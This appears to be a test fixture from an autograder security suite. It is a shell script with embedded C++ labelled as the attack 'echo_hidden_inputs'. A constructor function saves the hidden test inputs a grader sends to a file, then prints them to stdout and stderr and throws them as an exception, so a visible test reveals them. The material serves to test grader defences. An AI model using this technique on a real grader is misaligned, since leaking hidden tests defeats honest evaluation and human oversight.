# Exercise: all
# Attack: gradescope/echo_hidden_inputs
# Rule: not shown
# Secret: LEAKED
# Why: in Gradescope's layout, the program keeps the bytes of every request it is sent (hidden inputs among them) in a file of its run folder, and brings them out in the visible printed-output test: printed on stdout, on stderr, and as the text of an exception, so that a visible test's message would carry them.
. "$ROOT/tests/grader/attacks/lib/takeover.sh"
takeover "$1" "$2" "$3" @AUTOGRADER@ <<'CODE'
#include <stdexcept>
__attribute__((constructor)) static void attack_start() {
    std::vector<std::string> args = attack::own_args();
    const char* kept = "kept_inputs.txt";
    if (args.size() > 1 && args[1] == "--serve") {
        unsigned char b[64];
        ssize_t n = read(3, b, sizeof b);
        std::string hex = "LEAKED";
        for (ssize_t i = 0; i < n; i++) hex += "0123456789abcdef"[b[i] >> 4], hex += "0123456789abcdef"[b[i] & 15];
        FILE* f = std::fopen(kept, "a");
        if (f) std::fprintf(f, "%s ", hex.c_str()), std::fclose(f);
        _exit(1);
    }
    if (args.size() > 1 && args[1] == "--lesson") {
        std::string seen = attack::read_all(kept);
        std::printf("%s\n", seen.c_str());
        std::fflush(stdout);
        std::fprintf(stderr, "%s\n", seen.c_str());
        throw std::runtime_error(seen);
    }
}
CODE
